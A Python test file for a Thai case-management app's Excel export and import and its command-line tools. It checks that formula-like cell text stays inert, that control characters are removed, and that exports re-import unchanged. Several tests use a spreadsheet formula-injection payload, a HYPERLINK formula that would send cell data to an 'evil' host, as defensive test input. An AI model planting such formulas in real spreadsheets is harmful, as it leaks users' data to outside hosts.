"""Exports that never run: formula-like text stays text, rejected characters go, long text is cut
with a mark; the command line's filters, JSON summaries and exit codes."""
from __future__ import annotations

import datetime as dt
import json

import openpyxl
import pytest
from sqlalchemy import select, update

from app.domain.excel_safety import EXCEL_MAX_CELL_CHARS, TRUNCATION_MARK
from tests.integration.excel_support import legacy_rows, write_register


def _rows(path):
    sheet = openpyxl.load_workbook(path).active
    return sheet, [[cell for cell in row] for row in sheet.iter_rows()]


def _column(rows, header):
    return [cell.value for cell in rows[0]].index(header)


@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil/?"&A1,"ดู")', "+66812345678", "-5", "@SUM(A1)",
                                   "\tindent", "＝1+1"])
def test_formula_like_text_is_written_as_text(app, make_case, tmp_path, title):
    from app.extensions import db
    from app.services.case_export import export_cases
    from app.services.case_import import command_line_actor

    make_case("DIW", title="placeholder")
    with app.app_context():
        from app.models import Case

        db.session.execute(update(Case).values(title=title))
        db.session.commit()
        export_cases(db.session, command_line_actor(), tmp_path / "out.xlsx", lang="en")
    _, rows = _rows(tmp_path / "out.xlsx")
    cell = rows[1][_column(rows, "Title")]
    # Text, and quote-prefixed so that it stays text when a clerk edits the cell in Excel; the
    # value itself is the title as stored, so that the export imports back unchanged.
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value == title
    plain = rows[1][_column(rows, "Tracking code")]
    assert plain.data_type == "s" and not plain.quotePrefix


def test_control_characters_go_and_long_text_is_cut_with_a_mark(app, make_case, tmp_path):
    from app.extensions import db
    from app.models import Case
    from app.services.case_export import export_cases
    from app.services.case_import import command_line_actor

    make_case("DIW")
    long_text = "ก" * 40_000
    with app.app_context():
        db.session.execute(update(Case).values(title="กลิ่น\x01เหม็น\x1f", description=long_text))
        db.session.commit()
        export_cases(db.session, command_line_actor(), tmp_path / "out.xlsx", lang="th")
    _, rows = _rows(tmp_path / "out.xlsx")
    assert rows[1][_column(rows, "เรื่อง")].value == "กลิ่นเหม็น"
    description = rows[1][_column(rows, "รายละเอียด")].value
    assert len(description) <= EXCEL_MAX_CELL_CHARS and description.endswith(TRUNCATION_MARK)


def test_dates_are_real_dates_in_bangkok_time(app, make_case, tmp_path):
    from app.extensions import db
    from app.models import Case
    from app.services.case_export import export_cases
    from app.services.case_import import command_line_actor

    make_case("DIW")
    with app.app_context():
        # Due on Friday 27 Dec 2024: due_at is 00:00 Bangkok on the 28th.
        db.session.execute(update(Case).values(submitted_at=dt.datetime(2024, 12, 18, 2, 30, tzinfo=dt.timezone.utc),
                                               due_at=dt.datetime(2024, 12, 27, 17, 0, tzinfo=dt.timezone.utc)))
        db.session.commit()
        export_cases(db.session, command_line_actor(), tmp_path / "out.xlsx", lang="en")
    sheet, rows = _rows(tmp_path / "out.xlsx")
    cell = rows[1][_column(rows, "Submitted")]
    assert cell.is_date and cell.value == dt.datetime(2024, 12, 18, 9, 30)
    due = rows[1][_column(rows, "Due date")]
    assert due.is_date and due.value == dt.datetime(2024, 12, 27)  # the due date itself, not the day after
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
    assert sheet.column_dimensions["F"].width > 20  # the title column is wide enough to read


def _cli(app, *args):
    runner = app.test_cli_runner()
    result = runner.invoke(args=list(args))
    lines = [line for line in result.output.splitlines() if line.strip()]
    return result, json.loads(lines[-1])


def test_cli_import_prints_counts_and_is_idempotent(app, tmp_path):
    path = write_register(tmp_path / "reg.xlsx", legacy_rows())
    result, summary = _cli(app, "cases", "import", str(path), "--agency", "DIW")
    assert result.exit_code == 0, result.output
    assert (summary["new"], summary["updated"], summary["unchanged"], summary["errors"]) == (4, 0, 0, 0)
    result, summary = _cli(app, "cases", "import", str(path), "--agency", "diw")
    assert result.exit_code == 0 and summary["unchanged"] == 4 and summary["new"] == 0


def test_cli_import_dry_run_and_bad_rows(app, tmp_path):
    rows = legacy_rows() + [[9, None, "X-9", "ไม่มีประเภทนี้", "ผิด", None, None, None, None, None, "1/1/2568", None, None]]
    path = write_register(tmp_path / "bad.xlsx", rows)
    result, summary = _cli(app, "cases", "import", str(path), "--agency", "DIW")
    assert result.exit_code == 1 and summary["errors"] == 1 and summary["ok"] is False
    assert "row 10, ประเภทเรื่อง: Unknown case type" in result.output
    result, summary = _cli(app, "cases", "import", str(path), "--agency", "DIW", "--dry-run", "--valid-only")
    assert result.exit_code == 0 and summary["new"] == 4 and summary["written"] is False
    result, summary = _cli(app, "cases", "import", str(path), "--agency", "DIW", "--valid-only")
    assert result.exit_code == 0 and summary["new"] == 4 and summary["errors"] == 1


@pytest.mark.parametrize("content", [b"not a spreadsheet at all", b"PK\x03\x04broken zip"])
def test_cli_import_of_a_bad_file_exits_non_zero(app, tmp_path, content):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(content)
    result, summary = _cli(app, "cases", "import", str(path), "--agency", "DIW")
    assert result.exit_code == 1 and summary["ok"] is False and summary["error"]


def test_cli_import_unknown_agency_and_missing_file(app, tmp_path):
    path = write_register(tmp_path / "reg.xlsx", legacy_rows())
    result, summary = _cli(app, "cases", "import", str(path), "--agency", "NOPE")
    assert result.exit_code == 1 and "NOPE" in summary["error"]
    result, summary = _cli(app, "cases", "import", str(tmp_path / "missing.xlsx"), "--agency", "DIW")
    assert result.exit_code == 1


def test_cli_export_filters(app, make_case, tmp_path):
    make_case("DIW", title="หนึ่ง")
    make_case("OPS", title="สอง")
    out = tmp_path / "diw.xlsx"
    result, summary = _cli(app, "cases", "export", str(out), "--agency", "DIW", "--status", "received",
                           "--from", "1/1/2567", "--lang", "en")
    assert result.exit_code == 0 and summary["cases"] == 1
    _, rows = _rows(out)
    assert [row[_column(rows, "Agency")].value for row in rows[1:]] == ["DIW"]
    result, summary = _cli(app, "cases", "export", str(tmp_path / "none.xlsx"), "--to", "1/1/2560")
    assert result.exit_code == 0 and summary["cases"] == 0
    result, summary = _cli(app, "cases", "export", str(tmp_path / "x.xlsx"), "--status", "nonsense")
    assert result.exit_code == 1 and summary["ok"] is False


def test_cli_monthly_workbook(app, make_case, tmp_path):
    from app.extensions import db
    from app.models import Case

    title = '=HYPERLINK("http://evil/?"&A1,"ดู")'
    make_case("DIW", title=title)
    now = dt.datetime.now(dt.timezone(dt.timedelta(hours=7)))
    with app.app_context():  # due earlier this month and still open: one of the month's breaches
        db.session.execute(update(Case).values(due_at=now.replace(day=1, hour=12, minute=0, second=0, microsecond=0)))
        db.session.commit()
    out = tmp_path / "month.xlsx"
    result, summary = _cli(app, "cases", "export-monthly", str(out), "--month", f"{now.year + 543}-{now.month:02d}")
    assert result.exit_code == 0 and summary["agencies"] == 1, result.output
    workbook = openpyxl.load_workbook(out)
    assert [sheet.title for sheet in workbook.worksheets] == ["สรุปรายหน่วยงาน", "เรื่องเกินกำหนด", "ตามประเภทเรื่อง"]
    breach = workbook.worksheets[1]["D2"]
    assert breach.value == title and breach.data_type == "s" and breach.quotePrefix
    result, summary = _cli(app, "cases", "export-monthly", str(out), "--month", "2025-13")
    assert result.exit_code == 1


def test_the_template_keeps_formula_like_names_text(app, tmp_path):
    from app.services.import_files import write_template

    write_template(tmp_path / "template.xlsx", "both", [("DIW-X", "=HYPERLINK(\"x\")", "+ประเภท")])
    workbook = openpyxl.load_workbook(tmp_path / "template.xlsx")
    cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
    cells += [cell for row in workbook.worksheets[1].iter_rows() for cell in row]
    formula_like = [cell for cell in cells if cell.value in ('=HYPERLINK("x")', "+ประเภท")]
    assert len(formula_like) == 3  # the example row's case type, and the help sheet's two names
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in formula_like)
    assert not any(cell.quotePrefix for cell in cells if cell not in formula_like)


def test_the_templates_help_offers_only_the_statuses_an_import_takes(app, tmp_path):
    from app.services.import_files import write_template

    write_template(tmp_path / "template.xlsx", "both", [])
    help_rows = list(openpyxl.load_workbook(tmp_path / "template.xlsx").worksheets[1].iter_rows(values_only=True))
    statuses = {english for topic, _thai, english in help_rows if topic == "สถานะ / Status"}
    assert "In progress" in statuses and "Resolved" in statuses
    assert "Forwarded" not in statuses  # the import refuses it: forwarding is done on the case's page


def _export_and_import_again(app, tmp_path) -> tuple[int, int, int, int]:
    """DIW's cases exported by the command line and imported back: (new, updated, errors, unchanged)."""
    out = tmp_path / "export.xlsx"
    _cli(app, "cases", "export", str(out), "--agency", "DIW")
    result, summary = _cli(app, "cases", "import", str(out), "--agency", "DIW")
    assert result.exit_code == 0, result.output
    return summary["new"], summary["updated"], summary["errors"], summary["unchanged"]


def test_an_export_imports_back_unchanged(app, tmp_path):
    """The export's headers are import aliases: a clerk can export, edit and import again."""
    _cli(app, "cases", "import", str(write_register(tmp_path / "reg.xlsx", legacy_rows())), "--agency", "DIW")
    assert _export_and_import_again(app, tmp_path) == (0, 0, 0, 4)


def test_times_with_microseconds_import_back_unchanged(app, tmp_path):
    """Cases saved by the screens or a sync carry microseconds; Excel keeps milliseconds. The
    export of such times imports back unchanged, with no edit event and no new version."""
    from app.extensions import db
    from app.models import Case

    _cli(app, "cases", "import", str(write_register(tmp_path / "reg.xlsx", legacy_rows())), "--agency", "DIW")
    submitted = dt.datetime(2024, 12, 20, 4, 59, 14, 373430, tzinfo=dt.timezone.utc)
    closed = dt.datetime(2025, 1, 15, 7, 0, 0, 999900, tzinfo=dt.timezone.utc)
    with app.app_context():
        db.session.execute(update(Case).where(Case.external_ref == "REG-67-003")
                           .values(submitted_at=submitted, closed_at=closed))
        db.session.commit()
        before = db.session.execute(select(Case.version).where(Case.external_ref == "REG-67-003")).scalar_one()
    assert _export_and_import_again(app, tmp_path) == (0, 0, 0, 4)
    with app.app_context():
        version, = db.session.execute(select(Case.version).where(Case.external_ref == "REG-67-003")).one()
    assert version == before


def test_formula_like_text_imports_back_unchanged(app, tmp_path):
    """A title or a name starting with - = + or @ is exported quote-prefixed, not with an
    apostrophe in its value, so it comes back as it was and the row is unchanged."""
    from app.extensions import db
    from app.models import Case

    _cli(app, "cases", "import", str(write_register(tmp_path / "reg.xlsx", legacy_rows())), "--agency", "DIW")
    texts = {"REG-67-001": ("- น้ำเสียไหลลงคลอง", "=นายสมชาย"), "REG-67-002": ("+ กลิ่นเหม็น", "@สมหญิง")}
    with app.app_context():
        for ref, (title, name) in texts.items():
            db.session.execute(update(Case).where(Case.external_ref == ref).values(title=title, requester_name=name))
        db.session.commit()
    assert _export_and_import_again(app, tmp_path) == (0, 0, 0, 4)
    with app.app_context():
        stored = {ref: (title, name) for ref, title, name in db.session.execute(
            select(Case.external_ref, Case.title, Case.requester_name).where(Case.external_ref.in_(texts)))}
    assert stored == texts


def test_a_case_forwarded_to_the_agency_imports_back_unchanged(app, tmp_path, make_case):
    """A case another agency forwarded here is 'Forwarded' until someone takes it up; its row in
    the export says so, and importing the export back leaves it alone. Only a row that would move
    a case to 'Forwarded' is refused."""
    from app.services import cases
    from app.services.actor import Actor

    _cli(app, "cases", "import", str(write_register(tmp_path / "reg.xlsx", legacy_rows())), "--agency", "DIW")
    received = make_case("OPS", title="กลิ่นจากโรงงานข้างบ้าน")
    with app.app_context():
        cases.forward_case(Actor.system("tests"), received["id"], "DIW", note="เป็นเรื่องของ กรอ.")
    assert _export_and_import_again(app, tmp_path) == (0, 0, 0, 5)

    rows = [[1, None, "REG-67-002", None, None, None, None, None, None, "ส่งต่อ", None, None, None]]
    result, summary = _cli(app, "cases", "import", str(write_register(tmp_path / "move.xlsx", rows)), "--agency", "DIW")
    assert result.exit_code == 1 and summary["errors"] == 1
    assert "'Forwarded' cannot be imported" in result.output


def test_line_breaks_typed_on_a_screen_import_back_unchanged(app, tmp_path, make_case):
    """A browser sends a text area's line breaks as CR LF, and the case keeps them; a cell's come
    back as LF. Text pasted from a web page keeps its zero-width and no-break spaces, which the
    import takes out of a cell. The export of such a case imports back unchanged, with no edit."""
    from app.extensions import db
    from app.models import Case

    _cli(app, "cases", "import", str(write_register(tmp_path / "reg.xlsx", legacy_rows())), "--agency", "DIW")
    with app.app_context():
        db.session.execute(update(Case).where(Case.external_ref == "REG-67-001")
                           .values(description="กลิ่นเหม็นทุกเย็น\r\nหลังหกโมง", title="กลิ่นเหม็น\r\nจากโรงงาน",
                                   requester_name="นาย\u200bสมชาย\xa0ใจดี"))
        db.session.commit()
        before = db.session.execute(select(Case.version).where(Case.external_ref == "REG-67-001")).scalar_one()
    assert _export_and_import_again(app, tmp_path) == (0, 0, 0, 4)
    with app.app_context():
        after = db.session.execute(select(Case.version, Case.description).where(Case.external_ref == "REG-67-001")).one()
    assert after == (before, "กลิ่นเหม็นทุกเย็น\r\nหลังหกโมง")
